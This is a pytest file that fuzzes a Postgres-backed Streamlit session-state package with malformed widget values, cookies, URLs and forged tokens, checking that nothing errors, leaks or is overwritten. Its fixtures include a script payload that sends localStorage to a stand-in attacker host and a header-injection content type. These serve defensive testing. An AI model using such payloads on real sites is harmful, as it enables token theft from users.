"""A browser that lies in every field of what it sends, to a real server, over its own connection.

`liar` speaks Streamlit's protocol, so each lie comes in where a page's messages come in.
"""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from typing import Any
from urllib.request import urlopen

import psycopg
import pytest
from liar import FILE, Liar, Page, Widget, answered
from lies import Lies, rounds, seeds
from served import Server, running
from streamlit.proto.WidgetStates_pb2 import WidgetState

from streamlit_pgstate import Store, StoredFile, connect

SCRIPT = "../fuzz/app_fuzz.py"
SQL = psycopg.Connection[Any]
PACKAGE = "/streamlit_pgstate/"

pytestmark = pytest.mark.xdist_group("fuzz")


@pytest.fixture(scope="module")
def app(tmp_path_factory: pytest.TempPathFactory, database: Callable[[], str]) -> Iterator[Server]:
    folder, plain = tmp_path_factory.mktemp("fuzz"), ("--logger.enableRich", "false")
    server = Server(folder, database(), script=SCRIPT, options=plain)
    with running(server):
        yield server


@pytest.fixture
def store(app: Server) -> Iterator[Store]:
    """Replaces the fixture of the same name: over the app's own database."""
    store = connect(app.url)
    yield store
    store.close()


@pytest.fixture
def sql(app: Server) -> Iterator[SQL]:
    with psycopg.connect(app.url, autocommit=True) as connection:
        yield connection


@dataclass
class Visit:
    """One connection of a liar, with all that it has seen and may lie about."""

    liar: Liar
    lies: Lies
    tokens: list[str]
    """Good tokens of this app: its own, and some that nobody uses."""
    page: Page
    sessions: set[str] = field(default_factory=set)
    is_over: bool = False
    """Whether Streamlit itself can do no more with what this browser has sent."""

    def __post_init__(self) -> None:
        self.address = self.liar.url

    def lie(self) -> None:
        """One run, with a lie for some of the widgets."""
        widgets = list(self.page.widgets.values())
        chosen = self.lies.sample(widgets, k=min(len(widgets), self.lies.randrange(1, 5)))
        components = [widget for widget in widgets if widget.kind == "bidi_component"]
        chosen += self.lies.sample(components, k=min(2, len(components)))
        self.liar.url = self.lies.choice([self.address] * 5 + [*ADDRESSES])
        fragment = self.lies.choice([*(w.fragment for w in components), "", "", ""])
        states = [state for widget in chosen if (state := self.state(widget)) is not None]
        if self.lies.random() < 0.8:  # a lie that is sent again and again hides what comes below it
            self.liar.states.clear()
        page = self.lies.choice(("", "", "", "", "0" * 32, "no such page", "\0"))
        query = self.lies.choice(("", "", "", "case=x", "%", "a=%00&a=%ff", "&&==", "a" * 5000))
        after = self.liar.run(*states, fragment=fragment, page=page, query=query)
        if not fragment:
            self.page = Page(after.widgets or self.page.widgets, after.errors)
            self.is_over = not after.widgets
        self.note(after)

    def note(self, page: Page) -> None:
        """Note whose state the page shows: the app writes the ids of its sessions."""
        self.sessions |= {text.split()[1] for text in page.text if not text.startswith("keys")}

    def state(self, widget: Widget) -> WidgetState | None:
        if widget.kind == "bidi_component":
            told = self.told(widget)
            text = told if isinstance(told, str) else self.lies.state_text(told)
            try:
                return answered(widget, text)
            except (UnicodeEncodeError, ValueError):  # no message can hold it
                return None
        return self.value(widget)

    def told(self, widget: Widget) -> object:
        lies, data = self.lies, widget.data
        veil = bytes.fromhex(str(data.get("veil", "")))
        if data.get("offer"):
            self.tokens.append(str(data["offer"]))
        token = lies.choice(self.tokens) if self.tokens and lies.random() < 0.5 else None
        have, flag = str(data.get("have", "")), lambda: lies.choice((True, False, True, 1, "yes"))
        answer = {
            "to": lambda: have,
            "token": lambda: lies.veiled(token or lies.token(self.tokens), veil),
            **dict.fromkeys(("blocked", "kept", "copied", "shown"), flag),
        }
        report = {
            "have": lambda: have,
            "version": lambda: lies.randrange(100),
            "serverSession": lambda: "0" * 8,
            "at": lambda: lies.randrange(10**9),
        }
        tick = {
            "number": lambda: lies.randrange(100),
            "typing": lambda: "st-key-text",
            "dialog": flag,
        }
        fields = {
            "answer": lambda: lies.mapping(answer),
            "reconnect": lambda: lies.mapping(report),
            "tick": lambda: lies.mapping(tick),
        }
        return lies.mapping(fields)

    def value(self, widget: Widget) -> WidgetState | None:
        """A value of the widget's own type, mostly, or of another."""
        state, lies = WidgetState(id=widget.id), self.lies
        try:
            if widget.kind == "dataframe" and lies.random() < 0.9:
                state.string_value = self.edits()
            else:
                own = OWN.get(widget.kind, "string_value")
                set_value(state, lies.choice(KINDS) if lies.random() < 0.03 else own, lies)
        except (UnicodeEncodeError, ValueError, TypeError, OverflowError):
            return None  # no message can hold it
        return state

    def edits(self) -> str:
        """What a table's editor says, mostly."""
        lies = self.lies
        cells = {"a": lies.value, "b": lies.value, "_index": lies.value, "z": lies.value}
        rows = {
            "edited_rows": lambda: lies.mapping({"0": lambda: lies.mapping(cells)}),
            "added_rows": lambda: [lies.mapping(cells)],
            "deleted_rows": lambda: [lies.scalar()],
        }
        return lies.state_text(lies.mapping(rows))


OWN = {
    "text_input": "string_value",
    "number_input": "double_value",
    "slider": "double_array_value",
    "selectbox": "string_value",
    "multiselect": "string_array_value",
    "checkbox": "bool_value",
    "date_input": "string_array_value",
    "file_uploader": "file_uploader_state_value",
    "camera_input": "file_uploader_state_value",
}
KINDS = (*dict.fromkeys(OWN.values()), "int_value", "int_array_value", "json_value", "bytes_value")


def set_value(state: WidgetState, kind: str, lies: Lies) -> None:
    number, text = lies.choice((0.0, -1.5, 1e308, float("nan"), float("inf"))), lies.text()
    match kind:
        case "bool_value":
            state.bool_value = True
        case "double_value":
            state.double_value = number
        case "int_value":
            state.int_value = lies.choice((0, -1, 2**63 - 1, -(2**63)))
        case "bytes_value":
            state.bytes_value = text.encode()
        case "string_array_value":
            state.string_array_value.data.extend([text] * lies.randrange(4))
        case "double_array_value":
            state.double_array_value.data.extend([number] * lies.randrange(4))
        case "int_array_value":
            state.int_array_value.data.extend([lies.choice((0, 2**62))] * lies.randrange(4))
        case "file_uploader_state_value":
            files = state.file_uploader_state_value.uploaded_file_info
            for _ in range(lies.randrange(3)):
                file = files.add()
                file.file_id = file.name = text
        case _:
            setattr(state, kind, text)


def test_whatever_a_browser_sends_it_meets_no_error_but_ours_and_writes_nothing_elsewhere(
    app: Server, store: Store, sql: SQL
) -> None:
    victim_token = store.new_token()
    victim = store.state(victim_token)
    victim["k"] = "the victim's"
    planted = [store.new_token() for _ in range(5)]
    forgotten = store.new_token()
    store.state(forgotten).forget()
    shown = {str(victim.id)}
    for seed in seeds():
        lies, told, number = Lies(seed), 0, rounds(400) // 10
        while told < number:
            with Liar(app.port, cookies=cookies(lies, app.token_name, planted)) as liar:
                visit = Visit(liar, lies, [*planted, forgotten], liar.run())
                visit.note(visit.page)
                for _ in range(30):
                    visit.lie()
                    told += 1
                    if visit.is_over:
                        break
                    assert victim_token not in str(visit.page)
                shown |= visit.sessions
    assert errors_in(app.log) == []
    there = sql.execute("SELECT id::text FROM pgstate.session WHERE revoked_at IS NULL").fetchall()
    assert {row[0] for row in there} <= shown
    victim.refresh()
    assert dict(victim) == {"k": "the victim's"}
    assert victim.version == 1


ADDRESSES = ("http://[", "http://[::1", "//", "http://a:99999999/", "http://a:b/", "x" * 5000, "\0")


@pytest.mark.parametrize("address", ADDRESSES, ids=lambda address: repr(address[:12]))
def test_a_page_of_any_address_is_shown(app: Server, address: str) -> None:
    with Liar(app.port) as liar:
        liar.url = address
        assert asked(liar.run()).data["have"]


DEEP: list[Any] = []
for _ in range(300):
    DEEP = [DEEP]
NO_EDITS = (
    {"edited_rows": {"0": {"z": 1}}},
    {"added_rows": [{"z": 1}]},
    {"edited_rows": {"0": 5}, "added_rows": [5], "deleted_rows": [None, "x", {}]},
    {"edited_rows": {"0": {"b": DEEP}}},
    {"edited_rows": {"0": {"b": [{"x": DEEP}]}}},
)


@pytest.mark.parametrize("told", NO_EDITS, ids=range(len(NO_EDITS)))
def test_edits_that_fit_no_table_raise_nothing_of_ours_and_are_not_stored(
    app: Server, store: Store, told: object
) -> None:
    before = len(errors_in(app.log))
    with Liar(app.port) as liar:
        page = liar.run()
        (table,) = (widget for widget in page.widgets.values() if widget.kind == "dataframe")
        after = liar.run(WidgetState(id=table.id, string_value=json.dumps(told)))
        liar.states.clear()
        shown = liar.run()
    assert errors_in(app.log)[before:] == []
    assert "'table'" not in " ".join([*after.text, *shown.text])


PAGE = b"<script>fetch('//evil.example/' + localStorage)</script>"
PLAIN_TYPES = (
    "text/html",
    "image/svg+xml",
    "application/xhtml+xml",
    "",
    "audio/wav\nX: y",
    "AUDIO/WAV",
)


@pytest.mark.parametrize("kind", PLAIN_TYPES)
def test_the_server_sends_a_recording_as_sound_whatever_the_browser_says_it_is(
    app: Server, store: Store, kind: str
) -> None:
    """As a page it would read the token of whoever opens its link: it has the app's own address."""
    token = store.new_token()
    store.state(token)["recording"] = StoredFile(PAGE, name="recording.html", type=kind)
    with Liar(app.port, cookies={app.cookie_name: token}) as liar:
        (path,) = liar.run().media
        with urlopen(f"{app.address}{path}") as answer:
            assert answer.read() == PAGE
            assert answer.headers["Content-Type"].startswith("audio/")


def test_a_tab_is_copied_once_however_often_its_browser_asks_for_it(app: Server, sql: SQL) -> None:
    before = living(sql, "tab")
    with Liar(app.port) as liar:
        page = liar.run(query="write=yes")
        source = str(asked(page, "tab").data["offer"])
        for _ in range(10):
            page = answer(liar, page, "tab", token=source, copied=True)
    assert len(living(sql, "tab") - before) <= 2


@pytest.mark.page_copies
def test_the_browsers_own_state_is_never_copied(app: Server, sql: SQL) -> None:
    before = living(sql, "browser")
    with Liar(app.port) as liar:
        page = liar.run(query="write=yes")
        source = str(asked(page).data["offer"])
        for _ in range(3):
            page = answer(liar, page, token=source, copied=True)
    assert len(living(sql, "browser") - before) == 1


def test_a_browser_that_keeps_no_token_leaves_no_state_behind_each_time(
    app: Server, sql: SQL
) -> None:
    before = living(sql, "browser")
    with Liar(app.port) as liar:
        page = liar.run(query="write=yes")
        for _ in range(10):
            page = answer(liar, page, token=None)
    assert len(living(sql, "browser") - before) == 1


def test_another_visitors_fingerprint_and_id_open_nothing(app: Server, store: Store) -> None:
    """Both are no secrets: a page shows them to its own visitor."""
    token = store.new_token()
    victim = store.state(token)
    victim["word"] = "the victim's"
    made_up = ("A" * 64) + token[64:]
    with Liar(app.port) as liar:
        page = liar.run()
        for claimed in (made_up, str(victim.id), token[-43:], token[-43:][:16]):
            page = answer(liar, page, token=claimed, query="")
            assert "word" not in " ".join(page.text)
            assert str(victim.id) not in " ".join(page.text)
    victim.refresh()
    assert victim["word"] == "the victim's"


def cookies(lies: Lies, name: str, tokens: list[str]) -> dict[str, str]:
    """Cookies that look like ours, as far as a header can hold them."""
    found = {}
    for _ in range(lies.randrange(4)):
        base = lies.choice(("", "", "/", "/x", "%00", "%", "..", lies.text()))
        kind = lies.choice(("pgstate", "pgstate-tab"))
        value = lies.choice(tokens) if lies.random() < 0.3 else lies.token(tokens)
        found[f"{name.replace('pgstate', kind, 1)}{base}"] = value
    return {
        name: value
        for name, value in found.items()
        if (name + value).isascii() and (name + value).isprintable() and " " not in name
    }


def living(sql: SQL, scope: str) -> set[str]:
    """The sessions that hold something."""
    rows = sql.execute(
        """SELECT DISTINCT s.id::text FROM pgstate.session s JOIN pgstate.entry e
        ON e.session_id = s.id WHERE s.revoked_at IS NULL AND s.scope = %s""",
        (scope,),
    )
    return {row[0] for row in rows}


def asked(page: Page, scope: str = "") -> Widget:
    """The component with the last question about the token of this scope."""
    key = "-".join(part for part in ("streamlit_pgstate", scope) if part)
    found = page.component(key)
    assert found is not None
    return found


def answer(
    liar: Liar, page: Page, scope: str = "", *, query: str = "write=yes", **fields: Any
) -> Page:
    """Answer the question of the page, and return the page after the run that this starts."""
    widget = asked(page, scope)
    if fields["token"] is not None:
        veil = bytes.fromhex(str(widget.data["veil"]))
        fields["token"] = Lies().veiled(fields["token"], veil)
    told = {"answer": {"to": widget.data["have"], **fields}}
    return liar.run(answered(widget, told), query=query)


def errors_in(log: str) -> list[str]:
    """The errors in a log that this package has raised, or a library below it, or the database.

    Streamlit raises some itself, for values that its own widgets cannot read.
    """
    found = []
    for part in log.split("Traceback (most recent call last):")[1:]:
        knowing = [file for file in FILE.findall(part) if "/streamlit" in file]
        if (knowing and PACKAGE in knowing[-1]) or "psycopg" in part:
            found.append(part)
    return found
